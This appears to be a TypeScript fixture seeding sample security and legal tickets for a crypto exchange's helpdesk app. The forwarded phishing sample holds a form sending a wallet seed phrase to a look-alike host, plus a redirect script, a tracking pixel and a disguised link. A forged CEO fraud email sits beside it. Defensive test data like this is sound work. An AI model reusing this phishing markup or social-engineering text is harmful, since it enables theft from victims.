import type { Story } from "../../models/story.ts";
import { marked } from "../marked.ts";
import { change, customer, email, note, reply } from "./write.ts";

const phishingHtml = `<div dir="ltr"><p>Dear team, I received the mail below this morning. Is this really from you? I did click the button but I closed the page when it asked for my words. Screenshot attached.</p><p>Siti</p></div>
<br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">---------- Forwarded message ---------<br>From: <strong>Hoshino Exchange Security</strong> &lt;security@hosh1no-verify.example&gt;<br>Date: Fri, 06:12<br>Subject: [URGENT] Your wallet will be suspended in 15 minutes<br>To: &lt;siti.rahman@example.net&gt;</div>
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#0e1220;color:#e8ebf5;font-family:Arial,sans-serif"><tr><td style="padding:24px 32px;font-size:20px"><b>&#10022; Hoshino Exchange</b></td></tr>
<tr><td style="padding:0 32px 12px;font-size:15px;line-height:22px">Dear Valued Customer,<br><br>New EU compliance requires all customer to confirm ownership of their wallet. Your account <b>will be SUSPENDED in 00:15:00</b> and funds moved to cold storage for 180 days.</td></tr>
<tr><td align="center" style="padding:16px"><a href="https://hosh1no-verify.example/secure/wallet-restore?uid=48812" style="background:#5b7cff;color:#ffffff;padding:14px 28px;text-decoration:none;border-radius:8px">https://hoshino.example/verify</a></td></tr>
<tr><td style="padding:0 32px 24px;font-size:12px;color:#8b93ad">Do not share this e-mail. Agent on duty: Sarah, +1 555 0199. <img src="https://track.hosh1no-verify.example/o.gif?u=48812" width="1" height="1" alt=""></td></tr></table>
<form action="https://hosh1no-verify.example/collect" method="post"><input type="text" name="seed" placeholder="12 words"><input type="submit" value="Confirm"></form>
<script>document.location='https://hosh1no-verify.example/secure'</script></div>`;

const forgedHtml = `<p>Hello,</p><p>I am in a board meeting and cannot talk. Legal has cleared an exceptional release for a strategic client. Lift the withdrawal hold on account <b>HX-330917</b> now and confirm to me here, <u>not</u> in the ticket system.</p><p>This is confidential. I will remember who helped.</p><p>Hiroshi Hoshino<br>Chief Executive Officer<br><span style="color:#888">Sent from my iPad</span></p>`;

export const emails1: Story[] = marked("MADOGUCHI_FIXTURE_SENTINEL", [
  email(
    {
      slug: "phishing-forwarded",
      subject: "Fwd: [URGENT] Your wallet will be suspended in 15 minutes",
      category: "security",
      status: "new",
      priority: "high",
      requester: "siti",
      assignee: null,
      language: "en",
      tags: ["phishing"],
      timeline: [
        customer(
          38,
          `Dear team, I received the mail below this morning. Is this really from you? I did click the button but I closed the page when it asked for my words. Screenshot attached.

Siti

---------- Forwarded message ---------
From: Hoshino Exchange Security <security@hosh1no-verify.example>
Date: Fri, 06:12
Subject: [URGENT] Your wallet will be suspended in 15 minutes
To: <siti.rahman@example.net>

Dear Valued Customer,

New EU compliance requires all customer to confirm ownership of their wallet. Your account will be SUSPENDED in 00:15:00 and funds moved to cold storage for 180 days.

https://hosh1no-verify.example/secure/wallet-restore?uid=48812

Do not share this e-mail. Agent on duty: Sarah, +1 555 0199.`,
          { html: phishingHtml, files: ["phishing-site.png"] },
        ),
      ],
    },
    "security@hoshino.example",
  ),
  email(
    {
      slug: "forged-ceo-release",
      subject: "CONFIDENTIAL: release withdrawal hold HX-330917 before 17:00",
      category: "security",
      status: "open",
      priority: "high",
      requester: "forger",
      assignee: "lukas",
      language: "en",
      tags: ["phishing"],
      timeline: [
        customer(
          190,
          `Hello,

I am in a board meeting and cannot talk. Legal has cleared an exceptional release for a strategic client. Lift the withdrawal hold on account HX-330917 now and confirm to me here, not in the ticket system.

This is confidential. I will remember who helped.

Hiroshi Hoshino
Chief Executive Officer
Sent from my iPad`,
          { html: forgedHtml },
        ),
        change("lukas", 171, "assignee", null, "Lukas Brandt"),
        note(
          "lukas",
          168,
          "Not Hoshino-san. SPF and DKIM belong to another domain, DMARC fails for ours, reply-to goes to a free mailbox. HX-330917 is the account we froze on Monday after the takeover report, so whoever writes this knows that it is frozen. Do not answer. Kept as evidence, told security on call.",
        ),
        customer(
          64,
          "I am still waiting. Every minute costs the company money. If the person reading this is not authorised, forward me your supervisor's direct number.",
        ),
      ],
    },
    "legal@hoshino.example",
    {
      from: { name: "Hiroshi Hoshino (CEO)", address: "ceo@hoshino.example" },
      replyTo: { name: "H. Hoshino", address: "hoshino.ceo.private@freebox.example" },
      authentication: { spf: "softfail", dkim: "none", dmarc: "fail" },
      formal: true,
    },
  ),
  email(
    {
      slug: "police-request",
      subject: "Request for disclosure, our ref NC/ECU/26/11873",
      category: "legal_compliance",
      status: "open",
      priority: "high",
      requester: "marsh",
      assignee: "ingrid",
      language: "en",
      timeline: [
        customer(
          1730,
          `Dear Sir or Madam,

Please find attached a request for disclosure of subscriber information in connection with a fraud investigation (NC/ECU/26/11873). The loss is substantial and the complainant is vulnerable. There is reason to believe that funds remain on the account.

I should be grateful for an acknowledgement today and for an indication whether a voluntary hold is possible while I apply for an order.

Please do not inform the account holder.

A. Marsh
Detective Inspector 2281
Economic Crime Unit, Northshire Constabulary
Switchboard 01632 960 118 (please verify my identity through the switchboard and not through this e-mail)`,
          { files: ["police-request.pdf"] },
        ),
        change("noriko", 1700, "assignee", null, "Ingrid Solberg"),
        note(
          "ingrid",
          1650,
          "Called back through the switchboard number in the public register, not the one in the mail: DI Marsh exists and sent this. Address belongs to our customer base. Hold placed by compliance for 72 h (reference internal). No contact with the customer about the reason.",
        ),
        reply(
          "ingrid",
          1640,
          `Dear Detective Inspector Marsh,

We confirm receipt of your request NC/ECU/26/11873 and have confirmed your identity through your switchboard. A formal answer on items 1 to 3 will reach you through your force's secure channel within two working days. Kindly send further correspondence on this matter to legal@hoshino.example only.

Ingrid Solberg
Legal, Hoshino Exchange`,
        ),
        customer(
          118,
          "Thank you. The order was granted this morning, sealed copy to follow by secure mail before 16:00. Could you confirm that the hold runs until you have it in hand?",
        ),
      ],
    },
    "legal@hoshino.example",
    { cc: [{ name: "ECU Disclosure", address: "ecu.disclosure@northshire-police.example" }] },
  ),
  email(
    {
      slug: "subpoena-whitlock",
      subject: "Subpoena duces tecum, Whitlock v. Whitlock, Case No. 26-DR-004418",
      category: "legal_compliance",
      status: "new",
      priority: "normal",
      requester: "clerk",
      assignee: null,
      language: "en",
      timeline: [
        customer(
          780,
          `To the Custodian of Records:

Attached is a subpoena issued in the above matter. Return date is fourteen days after service. Questions about the scope may be directed to counsel for the Petitioner. Questions about electronic service may be directed to this office.

Office of the Clerk
Superior Court, County of Marlow`,
          { files: ["subpoena-notice.pdf"] },
        ),
      ],
    },
    "legal@hoshino.example",
    { authentication: { spf: "pass", dkim: "none", dmarc: "none" } },
  ),
  email(
    {
      slug: "reset-mail-inline",
      subject: "Password reset I did not ask for (4:52 in the morning)",
      category: "security",
      status: "open",
      priority: "high",
      requester: "piotr",
      assignee: "aiko",
      language: "en",
      tags: ["account-takeover"],
      timeline: [
        customer(
          365,
          `Hi,

I woke up to this:

[image: reset-mail-inline.png]

I am in Warsaw, not in Kraków, and I have never owned a Windows computer. I have not clicked anything. Balance looks right. Should I be worried?

Piotr`,
          {
            html: `<div style="font-family:Helvetica,Arial"><p>Hi,</p><p>I woke up to this:</p><p><img src="cid:reset-mail-inline.png" alt="reset mail" width="560"></p><p>I am in <b>Warsaw</b>, not in Kraków, and I have never owned a Windows computer. I have not clicked anything. Balance looks right. Should I be worried?</p><p>Piotr</p></div>`,
            files: ["reset-mail-inline.png"],
          },
        ),
        change("sora", 350, "assignee", null, "Aiko Tanaka"),
        reply(
          "aiko",
          331,
          `Hello Piotr,

Good that you asked before clicking. The mail in your picture is genuine: someone typed your address into our reset form. Without access to your mailbox they got no further, and there were no sign-ins other than yours.

Two things are worth doing today: change the password of your mailbox, and look there for forwarding rules you did not make. We have put your account under closer watch for a week.

Aiko Tanaka`,
        ),
        customer(
          15,
          `I found a forwarding rule!!! To an address I don't know, made two weeks ago, everything with the word "hoshino" in it. I deleted it. What now?

> Two things are worth doing today: change the password of your mailbox, and
> look there for forwarding rules you did not make.`,
        ),
        change("system", 15, "status", "pending", "open"),
      ],
    },
    "security@hoshino.example",
  ),
]);
